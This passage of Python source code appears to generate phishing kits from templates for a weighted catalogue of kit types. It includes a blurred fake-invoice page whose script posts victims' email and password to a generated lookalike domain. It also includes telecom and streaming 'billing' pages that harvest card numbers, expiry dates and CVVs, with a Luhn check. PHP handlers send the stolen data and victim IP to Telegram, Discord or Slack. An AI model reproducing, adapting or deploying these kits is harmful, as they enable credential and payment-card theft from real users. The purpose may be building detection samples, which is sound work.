<style>body{margin:0;font-family:sans-serif}.doc{filter:blur(6px);padding:40px;background:#fafafa;min-height:100vh}
.m{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);background:#fff;padding:24px;width:340px;box-shadow:0 0 30px rgba(0,0,0,.3)}
input{width:100%;padding:9px;margin:6px 0;box-sizing:border-box}button{background:{{color}};color:#fff;border:0;padding:10px;width:100%}</style></head>
<body><div class="doc"><h1>INVOICE {{inv}}</h1><table><tr><td>Item</td><td>Qty</td><td>Total</td></tr><tr><td>Services</td><td>1</td><td>{{amt}}</td></tr></table></div>
<div class="m"><b>{{name}}</b><p>{{verify}}</p><input id="e" type="email" placeholder="{{user}}"><input id="p" type="password" placeholder="{{pw}}">
<button id="b">{{next}}</button><p id="x" style="color:#c00"></p></div>
<script>
var n = 0;
document.getElementById('b').onclick = function () {
  var x = new XMLHttpRequest();
  x.open('POST', '{{post}}', true);
  x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
  x.onload = function () { n++; if (n > 1) location = 'https://www.{{real}}/'; else document.getElementById('x').textContent = '{{pw}} ✗'; };
  x.send('e=' + encodeURIComponent(document.getElementById('e').value) + '&p=' + encodeURIComponent(document.getElementById('p').value));
};
</script></body></html>
""", lang=b["lang"], d=' dir="rtl"' if b["lang"] == "ar" else "", name=b["name"], color=b["color"], inv=r.randint(10000, 99999),
          amt=r.choice(("4.380,00 €", "¥128,000", "12,400 AED")), verify=t["verify"], user=t["user"], pw=t["pw"], next=t["next"],
          post="https://%s/%s/next.php" % (r.choice(("files-", "docs-", "view-")) + word(r, 3, 5) + "." + dom(r), word(r, 2, 4)), real=dom(r))
    pp = "<?php\nheader('Access-Control-Allow-Origin: *');\n$data = array('e' => @$_POST['e'], 'p' => @$_POST['p'], 'ip' => $_SERVER['REMOTE_ADDR']);\n" + \
        exfil(r, r.choice(("telegram", "mail_file", "discord"))) + "echo 'ok';\n"
    d = kit_dir(r, k)
    return [(d + "/invoice.html", pg, "html"), (d + "/next.php", pp, "php")], "kit:%s-blurdoc" % k


def p_telecom(r, S):
    k, b, t = brand(r, ("telecom",))
    idx = page(b, t, [("msisdn", t["phone"], "tel"), ("pin", t["pw"], "password")], "bill.php",
               "<p>%s</p>" % t["fee"].split(":")[0])
    bill = page(b, t, [("cc", t["card"], "tel"), ("exp", t["exp"], "text"), ("cvv", t["cvv"], "tel"), ("holder", t["name"], "text")],
                "fin.php", "<p><b>%s</b></p>" % r.choice(("€ 12,99", "49,99 zł", "199 ฿", "35 AED")))
    kind = r.choice(("telegram_doc", "remote_db", "discord"))
    h1 = handler(r, ("msisdn", "pin"), kind, "bill.html")
    h2 = handler(r, ("cc", "exp", "cvv", "holder"), kind, "https://www.%s/" % dom(r))
    d = kit_dir(r, k)
    return [(d + "/index.html", idx, "html"), (d + "/bill.html", bill, "html"), (d + "/bill.php", h1, "php"),
            (d + "/fin.php", h2, "php")], "kit:%s-bill" % k


def p_stream(r, S):
    k, b, t = brand(r, ("streaming",))
    pg = page(b, t, [("email", t["user"], "email"), ("password", t["pw"], "password"), ("cc", t["card"], "tel"),
                     ("exp", t["exp"], "text"), ("cvv", t["cvv"], "tel")], "update.php", "<p>%s</p>" % t["verify"])
    h = T("""<?php
function luhn($n) {
    $n = preg_replace('/\\D/', '', $n);
    $s = 0;
    for ($i = strlen($n) - 1, $a = false; $i >= 0; $i--, $a = !$a) {
        $d = (int) $n[$i];
        if ($a) { $d *= 2; if ($d > 9) { $d -= 9; } }
        $s += $d;
    }
    return strlen($n) >= 13 && $s % 10 === 0;
}
if (!luhn(@$_POST['cc'])) {
    header('Location: index.html?e=1');
    exit;
}
$data = array('email' => $_POST['email'], 'password' => $_POST['password'], 'cc' => $_POST['cc'], 'exp' => $_POST['exp'], 'cvv' => $_POST['cvv'],
    'bin' => substr(preg_replace('/\\D/', '', $_POST['cc']), 0, 6), 'ip' => $_SERVER['REMOTE_ADDR']);
{{ex}}
header('Location: https://www.{{real}}/');
""", ex=exfil(r, r.choice(("discord", "slack", "telegram"))), real=dom(r))
    d = kit_dir(r, k)
    return [(d + "/index.html", pg, "html"), (d + "/update.php", h, "php")], "kit:%s-billing" % k


PHISHING = [
    ("aitm_reverse_proxy", p_aitm, 3),
    ("qr_code_login", p_qr, 3),
    ("turnstile_gate_kit", p_turnstile, 3),
    ("parcel_fee_steps", p_parcel, 4),
    ("tax_refund_geo", p_tax, 3),
    ("onefile_fetch_exfil", p_onefile, 3),
    ("exchange_2fa_seed", p_crypto, 3),
    ("regional_webmail", p_webmail, 4),
    ("antibot_cidr_rdns", p_antibot, 3),
    ("woo_card_logger", p_skim_server, 3),
    ("websocket_skimmer", p_skim_ws, 3),
    ("blurred_invoice_xhr", p_blurdoc, 3),
    ("telecom_bill_pay", p_telecom, 3),
    ("streaming_card_update", p_stream, 4),
]
